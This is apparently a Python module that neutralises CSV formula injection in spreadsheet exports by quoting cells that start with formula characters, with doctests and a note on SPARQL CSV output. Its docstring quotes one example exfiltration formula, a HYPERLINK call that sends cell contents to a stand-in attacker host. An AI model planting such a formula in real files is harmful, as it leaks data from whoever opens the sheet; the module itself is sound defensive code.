"""CSV cells meant for spreadsheets: text a spreadsheet would run as a formula is defused.

A cell that begins with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return, which
some spreadsheets skip before looking) is read as a formula by Excel, LibreOffice and
Google Sheets: ``=HYPERLINK("https://evil.example/?"&A1)`` in a label would leak the sheet.
As OWASP recommends (CSV Injection), such a cell gets a leading single quote, which the
spreadsheet shows as text. The full-width forms (``＝＋－＠``) are treated alike, since
Japanese input methods and some spreadsheets fold them to ASCII. A plain number
(``-0.25``, ``+3``, ``1e-5``) is left as it is: it cannot be a formula, and a sheet keeps it
a number.

This is for files meant to be opened in a spreadsheet (``policygraph export --format csv``,
``policygraph analyze … --format csv``, the explorer's CSV download). It is never applied
to ``/sparql``'s ``text/csv``, which is the SPARQL 1.1 Query Results CSV format, a data
format whose values must come back exactly as they are.

>>> [spreadsheet_cell(v) for v in ["=1+1", "@SUM(A1)", "-0.25", "-x", "＝1", "kor", ""]]
["'=1+1", "'@SUM(A1)", '-0.25', "'-x", "'＝1", 'kor', '']
"""

from __future__ import annotations

import re
from collections.abc import Iterable

__all__ = ["FORMULA_STARTS", "spreadsheet_cell", "spreadsheet_row"]

#: First characters that make a spreadsheet read a cell as a formula.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


def spreadsheet_cell(value: object) -> str:
    """``value`` as text a spreadsheet shows and never runs."""
    text = "" if value is None else str(value)
    if text.startswith(FORMULA_STARTS) and not _NUMBER.fullmatch(text):
        return "'" + text
    return text


def spreadsheet_row(values: Iterable[object]) -> list[str]:
    """Every cell of a row through :func:`spreadsheet_cell`."""
    return [spreadsheet_cell(value) for value in values]
